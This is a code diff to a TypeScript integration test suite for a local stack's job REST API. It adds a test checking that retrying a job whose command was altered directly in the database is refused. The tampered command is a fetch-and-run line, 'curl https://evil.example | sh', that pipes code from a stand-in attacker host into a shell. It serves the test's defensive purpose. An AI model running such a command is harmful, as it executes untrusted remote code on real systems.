@@ -3,11 +3,10 @@ import { execFile } from 'node:child_process';
 import { connect } from 'node:net';
 import { promisify } from 'node:util';
 import { FolderArtifactStore } from '../backend/store/artifacts';
-import { Store } from '../backend/store/store';
-import { tableNamesFor } from '../backend/store/tables';
+import type { Store } from '../backend/store/store';
 import { artifactKey } from '../common/names';
 import { DEFAULT_MODEL } from '../common/schemas';
-import { startStackProcess, type StackProcess } from './helpers/localStack';
+import { stackStore, startStackProcess, type StackProcess } from './helpers/localStack';
 
 // The REST API of the real local stack, over HTTP, as curl and the clients use it. Workers are
 // paused (CODY_BATCH_CONCURRENCY=0) so that repositories stay where each test puts them; the
@@ -66,7 +65,7 @@ describe('REST API on the local stack', () => {
 
   before(async () => {
     stack = await startStackProcess({ env: { CODY_BATCH_CONCURRENCY: '0', CODY_BATCH_MAX_REPOSITORIES: '1000' } });
-    store = Store.connect({ endpoint: stack.dynamodbEndpoint, tables: tableNamesFor('local') });
+    store = stackStore(stack);
     artifacts = new FolderArtifactStore(`${stack.home}/artifacts`);
   });
   after(async () => {
@@ -251,6 +250,21 @@ describe('REST API on the local stack', () => {
       const refused = (await strangers.json()).error;
       assert.equal(refused.code, 'VALIDATION_FAILED');
       assert.match(refused.message, /^Not part of job .*acme\/stranger-0, .* and 1490 more$/);
+    });
+
+    it('retry refuses (409 UNVERIFIED_JOB) a job whose command was changed in the table, and leaves it as it was', async () => {
+      const job = await createJob({ prompt: undefined, command: 'echo mine', repositories: ['acme/a'] });
+      assert.equal((await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' })).status, 202);
+      // Someone with the table's credentials, not the API's token, swaps the command.
+      await store.jobs.setAttributes(job.jobId, { command: 'curl https://evil.example | sh' });
+      const retry = await api(`/jobs/${job.jobId}/retry`, { method: 'POST' });
+      assert.equal(retry.status, 409);
+      const { error } = await retry.json();
+      assert.equal(error.code, 'UNVERIFIED_JOB');
+      assert.match(error.message, /not created through this stack's API/);
+      const after = await (await api(`/jobs/${job.jobId}`)).json();
+      assert.equal(after.status, 'CANCELLED');
+      assert.equal((await (await api(repositoryPath(job.jobId, 'acme/a'))).json()).attempt, 1);
     });
   });
 
